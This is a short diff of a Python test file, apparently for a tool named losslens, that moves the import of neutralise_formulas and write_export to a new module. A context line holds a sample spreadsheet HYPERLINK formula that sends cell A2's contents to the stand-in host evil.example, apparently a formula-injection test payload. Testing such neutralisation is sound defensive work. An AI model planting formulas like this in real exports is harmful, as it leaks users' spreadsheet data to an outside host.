@@ -5,7 +5,7 @@ from __future__ import annotations
 import pandas as pd
 
 from losslens.cli import main
-from losslens.export import neutralise_formulas, write_export
+from losslens.writers import neutralise_formulas, write_export
 
 LINK = '=HYPERLINK("http://evil.example/?"&A2,"open")'
 
